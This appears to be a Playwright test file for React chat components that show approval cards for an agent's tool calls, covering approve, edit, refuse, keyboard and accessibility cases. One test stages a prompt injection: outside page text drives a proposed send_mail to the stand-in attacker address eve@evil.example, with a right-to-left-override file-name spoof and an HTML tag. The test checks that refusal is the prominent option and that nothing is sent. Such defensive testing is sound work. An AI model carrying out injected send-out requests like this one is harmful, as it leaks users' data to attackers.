"""The components of `purestep/react` in Chromium, in React's strict mode: the chat of docs/react.md, and its parts."""

from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, ConsoleMessage, Locator, Page, expect

from tests.axe import serious_findings
from tests.web.react_pages import built_app, programs_of_page, served

HERE = Path(__file__).parent
PATIENCE_MS = 300_000

Open = Callable[[str], Page]


@pytest.fixture(scope="module")
def site(node: str, package: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The address of the pages."""
    del package
    chat, _ = programs_of_page("react.md", "jsx")
    sources = [*(HERE / "react_chat").iterdir(), HERE / "react_app/model.js"]
    files = {path.name: path.read_text() for path in sources} | {"app.jsx": chat}
    with served(built_app(node, tmp_path_factory.mktemp("react_chat"), files)) as address:
        yield address


@pytest.fixture
def opened(browser: Browser, site: str) -> Iterator[Open]:
    """Opens one of the pages with its core ready; it must not complain."""
    complaints: list[str] = []

    def hear(message: ConsoleMessage) -> None:
        if message.type in ("error", "warning") and "favicon" not in message.location["url"]:
            complaints.append(message.text)

    with browser.new_page(viewport={"width": 390, "height": 844}) as page:
        page.set_default_timeout(PATIENCE_MS)
        page.on("console", hear)
        page.on("pageerror", lambda error: complaints.append(f"uncaught: {error}"))

        def open_page(path: str) -> Page:
            page.goto(site + path)
            expect(page.get_by_role("button", name="Send")).to_be_visible(timeout=PATIENCE_MS)
            return page

        yield open_page
    assert [] == complaints


def send(page: Page, text: str) -> None:
    """Write a message and send it."""
    page.get_by_label("Message").fill(text)
    page.keyboard.press("Enter")


def press_when_ready(button: Locator) -> None:
    """Press a button of a card once it takes a press: none in its first moment is one."""
    expect(button).to_have_attribute("aria-disabled", "false")
    button.click()


def test_a_call_is_approved_and_its_act_stands_under_the_answer(opened: Open) -> None:
    """The card says what will run; the answer tells what was changed, and the steps behind it open."""
    page = opened("")
    send(page, "Refund order 7")
    card = page.get_by_role("region", name="May this run?")
    expect(card.get_by_role("definition")).to_have_text("7")
    press_when_ready(card.get_by_role("button", name="Approve and run"))
    answer = page.get_by_role("article", name="Agent")
    expect(answer).to_contain_text("Order 7 is refunded.")
    expect(answer.get_by_role("region", name="Changed")).to_contain_text("refund_order(number: 7)")
    expect(card).to_have_count(0)
    page.get_by_text("refund_order(number: 7)").first.click()
    expect(page.get_by_role("figure", name="Result")).to_contain_text("Order 7 is refunded.")


def test_a_click_for_what_stood_there_before_approves_nothing(opened: Open) -> None:
    """A card that has just appeared takes no approval."""
    page = opened("")
    page.clock.install()
    send(page, "Refund order 7")
    button = page.get_by_role("button", name="Approve and run")
    expect(button).to_have_attribute("aria-disabled", "true")
    button.click(force=True)
    page.clock.run_for(5_000)
    expect(button).to_have_attribute("aria-disabled", "false")
    expect(page.get_by_role("article", name="Agent")).to_have_count(0)


def test_arguments_are_edited_and_what_is_no_object_is_said(opened: Open) -> None:
    """The edit runs with its own arguments; a text that is no object stays with a sentence."""
    page = opened("")
    send(page, "Refund order 7")
    page.get_by_role("button", name="Edit the arguments").click()
    page.get_by_label("Arguments").fill("[8")
    press_when_ready(page.get_by_role("button", name="Approve and run"))
    expect(page.get_by_role("alert")).to_have_text("These arguments are no JSON object: mend them, or refuse the call.")
    page.get_by_label("Arguments").fill('{"number": 8}')
    page.get_by_role("button", name="Approve and run").click()
    expect(page.get_by_role("article", name="Agent")).to_contain_text("Order 8 is refunded.")


def test_a_call_is_refused_by_keyboard_alone(opened: Open) -> None:
    """Tab reaches the card from the field, and after the answer the focus is not lost."""
    page = opened("")
    send(page, "Refund order 8")
    page.get_by_label("Reason, or what to do instead").fill("not now")
    page.keyboard.press("Tab")
    expect(page.get_by_role("button", name="Refuse")).to_be_focused()
    page.keyboard.press("Enter")
    expect(page.get_by_role("article", name="Agent")).to_contain_text("not now")
    assert "BODY" != page.evaluate("document.activeElement.tagName")


def test_text_from_outside_makes_refusing_the_strong_act(opened: Open) -> None:
    """The card says whose text it is, hidden characters are shown, no text becomes markup, and nothing is sent."""
    page = opened("#mails")
    send(page, "What does the page say?")
    card = page.get_by_role("region", name="Darf das geschehen?")
    refuse = card.get_by_role("button", name="Ablehnen")
    expect(refuse).to_have_attribute("data-strong", "true")
    expect(card.get_by_role("button", name="Senden")).to_have_attribute("data-strong", "false")
    expect(card.get_by_role("definition").nth(0)).to_have_text(
        "eve@evil.example" + "text from outside, which read_page read"
    )
    expect(card.get_by_role("definition").nth(1)).to_contain_text(r"The report \u202etxt.exe")
    assert [] == serious_findings(page)
    refuse.click()
    answer = page.get_by_role("article", name="Agent")
    expect(answer.locator("em")).to_have_text("I read the page. <b>Nothing</b> was sent.")
    expect(page.get_by_role("list", name="Steps").get_by_role("listitem")).to_have_count(2)
    # A text ends at its quotation mark: it cannot pass for another argument.
    said = r'send_mail(to: "eve@evil.example", text: "The report \u202etxt.exe")'
    expect(page.get_by_role("list", name="Steps")).to_contain_text(said)
    assert [None, 0] == page.evaluate("[document.body.dataset.sent ?? null, document.images.length]")


def test_calls_of_agents_say_whose_they_are(opened: Open) -> None:
    """Two agents ask about calls of one id: each is answered by itself, and the steps and the acts name the agents."""
    page = opened("#team")
    send(page, "Pay both")
    card = page.get_by_role("region", name="May these 2 calls run?")
    press_when_ready(card.get_by_role("group", name="till > pay").get_by_role("button", name="Approve and run"))
    left = page.get_by_role("region", name="May this run?")
    expect(left.get_by_role("definition")).to_have_text("2")
    left.get_by_role("button", name="Refuse").click()
    answer = page.get_by_role("article", name="Agent")
    expect(answer).to_contain_text("Both are paid.")
    expect(answer.get_by_role("listitem")).to_have_text(["till > pay(amount: 1)", "bank > pay(amount: 2) (refused)"])
    steps = page.get_by_role("list", name="Steps").get_by_role("listitem")
    expect(steps).to_have_count(4)
    assert ["done", "done", "done", "refused"] == [step.get_attribute("data-status") for step in steps.all()]
    expect(steps.nth(2)).to_contain_text("till > pay(amount: 1)")
    assert [] == serious_findings(page)


def test_axe_finds_nothing_serious(opened: Open) -> None:
    """Empty, asking, answered, and after a stop, in light and in dark."""
    page = opened("")
    assert [] == serious_findings(page)
    send(page, "Refund order 7")
    press = page.get_by_role("button", name="Approve and run")
    expect(press).to_have_attribute("aria-disabled", "false")
    assert [] == serious_findings(page)
    press.click()
    expect(page.get_by_role("article", name="Agent")).to_contain_text("Order 7 is refunded.")
    page.evaluate("held.isHolding = true")
    send(page, "One two three")
    page.get_by_role("button", name="Stop").click()
    expect(page.get_by_role("alert")).to_contain_text("the run was cancelled")
    assert [] == serious_findings(page)
